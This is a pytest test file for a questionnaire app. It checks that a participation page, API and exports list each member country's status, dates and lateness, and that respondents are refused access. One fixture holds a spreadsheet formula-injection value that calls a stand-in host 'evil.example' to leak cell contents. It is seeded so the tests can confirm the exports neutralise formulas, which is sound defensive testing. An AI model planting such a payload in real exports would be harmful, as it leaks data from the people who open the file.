"""Participation: every member country's status in a cycle, as the secretariat may know it.

The page, the API and the exports list every member country (the country table):
not submitted, submitted, returned or accepted, with the dates the secretariat
may know, on time or late, and the counts.  A country with a draft and a
country that has not started look exactly the same everywhere.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from babel import Locale
from openpyxl import load_workbook
from sqlalchemy import delete, func, select

from questionnaire import exports, openapi, services
from questionnaire.auth import issue_token
from questionnaire.db import db
from questionnaire.models import Country, Role, User
from questionnaire.services import lifecycle
from questionnaire.services import participation as participation_service
from questionnaire.services.review import name_key

from ..conftest import add_user

DUE = date(2026, 6, 30)
# The last second of the due date (UTC) is on time; the next one is late.
LAST_SECOND = datetime(2026, 6, 30, 23, 59, 59, tzinfo=UTC)
FIRST_LATE = datetime(2026, 7, 1, 0, 0, 0, tzinfo=UTC)
EARLY = datetime(2026, 6, 10, 9, 0, tzinfo=UTC)


def members() -> int:
    return int(db.session.scalar(select(func.count()).select_from(Country)))


class Clock:
    """Set the time the lifecycle records its steps at."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch):
        self.monkeypatch = monkeypatch

    def __call__(self, when: datetime) -> None:
        self.monkeypatch.setattr(lifecycle, "utcnow", lambda: when)


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    return Clock(monkeypatch)


@pytest.fixture
def people(users: dict[str, User]) -> dict[str, User]:
    """The suite's users, plus respondents of Italy, Spain, the United Kingdom and the Netherlands."""
    more = {
        iso3.lower(): add_user(f"{iso3.lower()}@example.org", Role.RESPONDENT, iso3)
        for iso3 in ("ITA", "ESP", "GBR", "NLD")
    }
    return {**users, **more}


def _start(people: dict[str, User], cycle: Any, iso3: str) -> Any:
    assessment, _ = services.start_assessment(people[iso3.lower()], cycle, iso3)
    edit = services.Edit("CL-1", services.make_input(rating="largely", description="In force."), 0)
    services.save_answers(people[iso3.lower()], assessment, [edit])
    return assessment


@pytest.fixture
def season(people: dict[str, User], cycle: Any, clock: Clock) -> dict[str, Any]:
    """Cycle 2026, due on 30 June 2026:

    - France has not started; Germany has a draft;
    - Italy submitted in the last second of the due date (on time), Spain in the first second after (late);
    - the United Kingdom submitted early and was returned;
    - the Netherlands submitted early, was returned, resubmitted late and was accepted (on time: the first
      submission counts).
    """
    cycle.due_date = DUE
    db.session.commit()
    _start(people, cycle, "DEU")
    ita, esp, gbr, nld = (_start(people, cycle, c) for c in ("ITA", "ESP", "GBR", "NLD"))
    clock(LAST_SECOND)
    services.submit(people["ita"], ita)
    clock(FIRST_LATE)
    services.submit(people["esp"], esp)
    clock(EARLY)
    services.submit(people["gbr"], gbr)
    services.submit(people["nld"], nld)
    clock(EARLY + timedelta(days=2))
    services.return_assessment(people["reviewer"], gbr, "Please cite the law.")
    clock(EARLY + timedelta(days=1))
    services.return_assessment(people["reviewer"], nld, "Please cite the law.")
    clock(datetime(2026, 7, 5, 10, 0, tzinfo=UTC))
    services.submit(people["nld"], nld)
    clock(datetime(2026, 7, 6, 11, 0, tzinfo=UTC))
    services.accept(people["reviewer"], nld)
    return {"cycle": cycle}


@pytest.fixture
def reviewer(make_client: Any, people: dict[str, User]) -> Any:
    client = make_client()
    client.login("reviewer@example.org")
    return client


@pytest.fixture
def tokens(people: dict[str, User]) -> dict[str, str]:
    return {name: issue_token(user, "tests") for name, user in people.items()}


def api_get(client: Any, path: str, token: str) -> Any:
    return client.get(f"/api/v1{path}", headers={"Authorization": f"Bearer {token}"})


def by_iso3(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["iso3"]: c for c in data["countries"]}


def without_identity(entry: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in entry.items() if k not in ("iso3", "name", "region")}


def page_row(html: str, name: str) -> str:
    """Return the HTML of the table row of the country named `name`."""
    match = re.search(
        rf'<tr class="participation-row[^"]*">\s*<th scope="row" class="sticky-col">'
        rf"(?:<a [^>]*>)?{re.escape(name)}<.*?</tr>",
        html,
        re.S,
    )
    assert match, f"no row for {name}"
    return match.group(0)


def neutral(row: str, *identity: str) -> str:
    """Blank out what names the country, so that two countries' rows can be compared."""
    for text in identity:
        row = row.replace(text, "<country>")
    return row


def without_csrf(html: str) -> str:
    return re.sub(r'name="csrf_token" value="[^"]*"', "", html)


# --------------------------------------------------------------------------
# Every status, with its dates
# --------------------------------------------------------------------------


def test_every_status_with_its_dates_in_the_api(app, season, tokens) -> None:  # type: ignore[no-untyped-def]
    response = api_get(app.test_client(), "/cycles/2026/participation", tokens["reviewer"])
    assert response.status_code == 200
    data = response.get_json()
    assert data["cycle"] == "2026" and data["due_date"] == "2026-06-30"
    countries = by_iso3(data)
    assert len(countries) == members()
    assert countries["FRA"] == {
        "iso3": "FRA",
        "name": "France",
        "region": "Europe",
        "status": "not_submitted",
        "first_submitted_at": None,
        "submitted_at": None,
        "returned_at": None,
        "accepted_at": None,
        "late": None,
    }
    ita, esp, gbr, nld = (countries[c] for c in ("ITA", "ESP", "GBR", "NLD"))
    assert (ita["status"], ita["first_submitted_at"], ita["submitted_at"], ita["late"]) == (
        "submitted",
        LAST_SECOND.isoformat(),
        LAST_SECOND.isoformat(),
        False,
    )
    assert (esp["status"], esp["first_submitted_at"], esp["late"]) == ("submitted", FIRST_LATE.isoformat(), True)
    assert (ita["returned_at"], ita["accepted_at"], esp["returned_at"], esp["accepted_at"]) == (None,) * 4
    assert gbr["status"] == "returned"
    assert gbr["first_submitted_at"] == EARLY.isoformat() and gbr["late"] is False
    assert gbr["returned_at"] == (EARLY + timedelta(days=2)).isoformat() and gbr["accepted_at"] is None
    assert nld == {
        "iso3": "NLD",
        "name": "Netherlands",
        "region": "Europe",
        "status": "accepted",
        "first_submitted_at": EARLY.isoformat(),
        "submitted_at": datetime(2026, 7, 5, 10, 0, tzinfo=UTC).isoformat(),
        "returned_at": (EARLY + timedelta(days=1)).isoformat(),
        "accepted_at": datetime(2026, 7, 6, 11, 0, tzinfo=UTC).isoformat(),
        "late": False,  # the first submission was on time; the resubmission does not make it late
    }
    assert data["summary"] == {
        "members": members(),
        "not_submitted": members() - 4,
        "submitted": 2,
        "returned": 1,
        "accepted": 1,
        "late": 1,
    }
    names = [c["name"] for c in data["countries"]]
    assert names == sorted(names, key=name_key), "countries come by name"


def test_the_page_lists_every_member_country_with_its_status_dates_and_counts(reviewer, season) -> None:  # type: ignore[no-untyped-def]
    response = reviewer.get("/cycles/2026/participation")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert html.count('<tr class="participation-row') == members()
    assert f"4 of {members()} member countries have submitted an assessment." in html
    assert "Due on June 30, 2026:" in html
    summary = html.split('class="facts facts--inline participation-summary"')[1].split("</dl>")[0]
    for label, count in (
        ("Not submitted", members() - 4),
        ("Submitted", 2),
        ("Returned for changes", 1),
        ("Accepted", 1),
        ("On time", 3),
        ("Late", 1),
    ):
        assert f"<dt>{label}</dt><dd>{count}</dd>" in summary, label
    italy = page_row(html, "Italy")
    assert '<span class="status status--submitted">Submitted</span>' in italy
    assert '<time datetime="2026-06-30T23:59:59+00:00">Jun 30, 2026</time>' in italy
    assert '<span class="tag tag--ok">On time</span>' in italy
    assert 'href="/cycles/2026/countries/ITA/"' in italy
    spain = page_row(html, "Spain")
    assert '<span class="tag tag--late">Late</span>' in spain and "Jul 1, 2026" in spain
    uk = page_row(html, "United Kingdom")
    assert "Returned for changes" in uk and "Jun 12, 2026" in uk
    netherlands = page_row(html, "Netherlands")
    for day in ("Jun 10, 2026", "Jun 11, 2026", "Jul 5, 2026", "Jul 6, 2026"):
        assert day in netherlands
    france = page_row(html, "France")
    assert '<span class="status status--not_submitted">Not submitted</span>' in france
    assert "<a " not in france and "<time" not in france, "nothing to open and no date for a country not submitted"
    for fmt in ("csv", "xlsx", "json"):
        assert f'href="/cycles/2026/export/participation.{fmt}"' in html
    # Logical properties only: the page works right to left as it is.
    assert "style=" not in html
    assert "left" not in reviewer.get("/static/css/compare.css").get_data(as_text=True).split("/* Participation")[1]


def test_the_page_in_arabic_is_right_to_left_with_localised_dates(make_client, people, season) -> None:  # type: ignore[no-untyped-def]
    client = make_client()
    client.login("reviewer@example.org")
    client.post_form("/language", {"lang": "ar"}, page="/")
    html = client.get("/cycles/2026/participation").get_data(as_text=True)
    assert '<html lang="ar" dir="rtl">' in html
    italy = page_row(html, Locale.parse("ar").territories["IT"])
    assert '<time datetime="2026-06-30T23:59:59+00:00">' in italy
    assert "Jun 30, 2026" not in italy, "the date is written the Arabic way"


# --------------------------------------------------------------------------
# A draft is private: a country with a draft looks like one that has not started
# --------------------------------------------------------------------------


def test_a_draft_and_a_country_that_has_not_started_have_the_same_row_everywhere(app, reviewer, season, tokens) -> None:  # type: ignore[no-untyped-def]
    france, germany = db.session.get(Country, "FRA"), db.session.get(Country, "DEU")
    assert services.find_assessment("2026", "DEU").status == "draft"
    assert services.find_assessment("2026", "FRA") is None
    # the page
    html = reviewer.get("/cycles/2026/participation").get_data(as_text=True)
    assert neutral(page_row(html, "France"), "France") == neutral(page_row(html, "Germany"), "Germany")
    # the API
    countries = by_iso3(api_get(app.test_client(), "/cycles/2026/participation", tokens["reviewer"]).get_json())
    assert without_identity(countries["FRA"]) == without_identity(countries["DEU"])
    assert countries["FRA"]["region"] == countries["DEU"]["region"] == "Europe"
    # the exports
    rows = list(csv.reader(io.StringIO(reviewer.get("/cycles/2026/export/participation.csv").data.decode("utf-8-sig"))))
    csv_rows = {r[0]: r for r in rows[1:]}
    assert csv_rows["FRA"][3:] == csv_rows["DEU"][3:] == ["not_submitted", "", "", "", "", ""]
    book = load_workbook(io.BytesIO(reviewer.get("/cycles/2026/export/participation.xlsx").data))
    xlsx_rows = {r[0]: r for r in book["Participation"].iter_rows(min_row=2, values_only=True)}
    assert xlsx_rows["FRA"][3:] == xlsx_rows["DEU"][3:]
    records = {
        r["country"]: r for r in reviewer.get("/cycles/2026/export/participation.json").get_json()["participation"]
    }
    assert {k: v for k, v in records["FRA"].items() if k not in ("country", "country_name")} == {
        k: v for k, v in records["DEU"].items() if k not in ("country", "country_name")
    }
    assert (france.region, germany.region) == ("Europe", "Europe")


def test_starting_a_draft_changes_nothing_the_secretariat_sees(app, reviewer, people, season, tokens) -> None:  # type: ignore[no-untyped-def]
    api = app.test_client()

    def seen() -> tuple[str, Any, bytes, Any]:
        page = without_csrf(reviewer.get("/cycles/2026/participation").get_data(as_text=True))
        data = api_get(api, "/cycles/2026/participation", tokens["reviewer"]).get_json()
        table = reviewer.get("/cycles/2026/export/participation.csv").data
        document = reviewer.get("/cycles/2026/export/participation.json").get_json()
        document.pop("generated_at")
        return page, data, table, document

    before = seen()
    _start(people, season["cycle"], "FRA")
    edit = services.Edit("CL-2", services.make_input(rating="full", description="Done."), 0)
    services.save_answers(people["fra"], services.find_assessment("2026", "FRA"), [edit])
    assert seen() == before


# --------------------------------------------------------------------------
# On time and late
# --------------------------------------------------------------------------


def test_late_is_judged_on_the_first_submission_against_the_end_of_the_due_date_in_utc(people, cycle, clock) -> None:  # type: ignore[no-untyped-def]
    cycle.due_date = DUE
    db.session.commit()
    ita, esp = _start(people, cycle, "ITA"), _start(people, cycle, "ESP")
    # 1 July, 01:30 in Paris is still 30 June in UTC: on time.
    clock(datetime(2026, 6, 30, 23, 30, tzinfo=UTC))
    services.submit(people["ita"], ita)
    clock(datetime(2026, 7, 1, 0, 0, 1, tzinfo=UTC))
    services.submit(people["esp"], esp)
    view = participation_service.participation(people["reviewer"], cycle)
    lines = {c.iso3: c for c in view.countries}
    assert (lines["ITA"].late, lines["ESP"].late, lines["FRA"].late) == (False, True, None)
    assert (view.summary.on_time, view.summary.late) == (1, 1)


def test_without_a_due_date_nobody_is_late(reviewer, people, cycle, clock, tokens, app) -> None:  # type: ignore[no-untyped-def]
    clock(FIRST_LATE)
    services.submit(people["ita"], _start(people, cycle, "ITA"))
    data = api_get(app.test_client(), "/cycles/2026/participation", tokens["reviewer"]).get_json()
    assert data["due_date"] is None
    assert by_iso3(data)["ITA"]["late"] is None and data["summary"]["late"] == 0
    html = reviewer.get("/cycles/2026/participation").get_data(as_text=True)
    assert "This cycle has no due date." in html
    assert "tag--late" not in html and "tag--ok" not in html


@pytest.mark.parametrize(
    ("offset", "text"), [(5, "5 days left"), (1, "1 day left"), (0, "Due today"), (-3, "3 days overdue")]
)
def test_the_page_says_how_many_days_are_left_or_overdue(reviewer, cycle, offset, text) -> None:  # type: ignore[no-untyped-def]
    cycle.due_date = datetime.now(UTC).date() + timedelta(days=offset)
    db.session.commit()
    html = reviewer.get("/cycles/2026/participation").get_data(as_text=True)
    assert text in html


# --------------------------------------------------------------------------
# Who may see it
# --------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["fra", "ita"])
def test_respondents_are_refused_the_page_the_exports_and_the_api(
    app, make_client, people, season, tokens, who
) -> None:  # type: ignore[no-untyped-def]
    client = make_client()
    client.login(f"{who}@example.org")
    for url in (
        "/cycles/2026/participation",
        "/cycles/2026/export/participation.csv",
        "/cycles/2026/export/participation.xlsx",
        "/cycles/2026/export/participation.json",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert b"Spain" not in response.data and b"not_submitted" not in response.data
    response = api_get(app.test_client(), "/cycles/2026/participation", tokens[who])
    assert response.status_code == 403
    assert response.get_json()["error"]["status"] == 403
    assert "Spain" not in response.get_data(as_text=True)
    home = client.get("/").get_data(as_text=True)
    assert "/participation" not in home


def test_anonymous_visitors_are_sent_to_sign_in_and_the_api_wants_a_token(client, season) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/cycles/2026/participation")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.get("/api/v1/cycles/2026/participation").status_code == 401


def test_admins_see_it_and_an_unknown_cycle_is_not_found(app, make_client, season, tokens) -> None:  # type: ignore[no-untyped-def]
    admin = make_client()
    admin.login("admin@example.org")
    assert admin.get("/cycles/2026/participation").status_code == 200
    assert admin.get("/cycles/1999/participation").status_code == 404
    assert admin.get("/cycles/1999/export/participation.csv").status_code == 404
    assert api_get(app.test_client(), "/cycles/2026/participation", tokens["admin"]).status_code == 200
    assert api_get(app.test_client(), "/cycles/1999/participation", tokens["admin"]).status_code == 404


def test_the_reviewers_home_and_the_comparison_link_to_the_page(reviewer, season) -> None:  # type: ignore[no-untyped-def]
    assert 'href="/cycles/2026/participation"' in reviewer.get("/").get_data(as_text=True)
    assert 'href="/cycles/2026/participation"' in reviewer.get("/cycles/2026/compare").get_data(as_text=True)


# --------------------------------------------------------------------------
# The export
# --------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile_country(app: Any) -> Iterator[str]:
    """A member country whose name and region a spreadsheet would run as formulas."""
    db.session.add(Country(iso3="=A1", iso2="=1", numeric="999", name_en=FORMULA_NAME, region="@Region", subregion=""))
    db.session.commit()
    yield "=A1"
    db.session.rollback()
    db.session.execute(delete(Country).where(Country.iso3 == "=A1"))
    db.session.commit()


def test_the_export_is_formula_safe_and_gives_the_text_back(reviewer, season, hostile_country) -> None:  # type: ignore[no-untyped-def]
    response = reviewer.get("/cycles/2026/export/participation.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "filename=thb-2026-participation.csv" in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert rows[0] == exports.PARTICIPATION_COLUMNS
    assert len(rows) == 1 + members()
    hostile = next(r for r in rows[1:] if exports.recover_csv_cell(r[0]) == hostile_country)
    assert hostile[:4] == ["'=A1", "'" + FORMULA_NAME, "'@Region", "not_submitted"]
    for row in rows:
        for cell in row:
            assert not exports.starts_like_formula(cell), cell
    italy = next(r for r in rows if r[0] == "ITA")
    assert italy[3:] == ["submitted", "2026-06-30T23:59:59Z", "2026-06-30T23:59:59Z", "", "", "false"]

    xlsx = reviewer.get("/cycles/2026/export/participation.xlsx")
    assert xlsx.mimetype == exports.FORMATS["xlsx"]
    book = load_workbook(io.BytesIO(xlsx.data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    cells = {r[0].value: r for r in book["Participation"].iter_rows(min_row=2)}
    name = cells[hostile_country][1]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA_NAME, "s", True)
    about = {r[0]: r[1] for r in book["About"].iter_rows(values_only=True) if r and r[0]}
    assert about["cycle"] == "2026" and about["due_date"] == "2026-06-30"
    assert about["countries"] == str(members()) and about["countries:late"] == "1"
    assert about["countries:not_submitted"] == str(members() - 4) and about["countries:accepted"] == "1"


def test_the_json_export_and_the_api_agree(app, reviewer, season, tokens) -> None:  # type: ignore[no-untyped-def]
    document = reviewer.get("/cycles/2026/export/participation.json").get_json()
    api = by_iso3(api_get(app.test_client(), "/cycles/2026/participation", tokens["reviewer"]).get_json())
    assert len(document["participation"]) == members()
    for record in document["participation"]:
        entry = api[record["country"]]
        assert record["status"] == entry["status"] and record["late"] == entry["late"]
        for key in ("first_submitted_at", "submitted_at", "returned_at", "accepted_at"):
            expected = entry[key] and datetime.fromisoformat(entry[key]).strftime("%Y-%m-%dT%H:%M:%SZ")
            assert record[key] == expected, key


# --------------------------------------------------------------------------
# The comparison counts every member country
# --------------------------------------------------------------------------


def test_the_comparison_headline_counts_every_member_country(reviewer, season) -> None:  # type: ignore[no-untyped-def]
    html = reviewer.get("/cycles/2026/compare").get_data(as_text=True)
    assert f"4 of {members()} member countries have submitted an assessment." in html
    filtered = reviewer.get("/cycles/2026/compare?status=returned").get_data(as_text=True)
    assert f"4 of {members()} member countries have submitted an assessment." in filtered
    assert "1 of them is shown." in filtered


# --------------------------------------------------------------------------
# The OpenAPI document
# --------------------------------------------------------------------------


def test_the_openapi_document_lists_the_operation() -> None:
    document = openapi.build_document()
    operation = document["paths"]["/api/v1/cycles/{cycle}/participation"]["get"]
    assert operation["operationId"] == "getParticipation"
    assert operation["responses"]["200"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/Participation"
    }
    assert {"401", "403", "404"} <= set(operation["responses"])
    schemas = document["components"]["schemas"]
    assert set(schemas["Participation"]["properties"]) == {"cycle", "due_date", "summary", "countries"}
    assert set(schemas["ParticipationSummary"]["properties"]) == {
        "members",
        "not_submitted",
        "submitted",
        "returned",
        "accepted",
        "late",
    }
    country = schemas["CountryParticipation"]["properties"]
    assert set(country) == {
        "iso3",
        "name",
        "region",
        "status",
        "first_submitted_at",
        "submitted_at",
        "returned_at",
        "accepted_at",
        "late",
    }
    assert country["status"]["enum"] == ["not_submitted", "submitted", "returned", "accepted"]
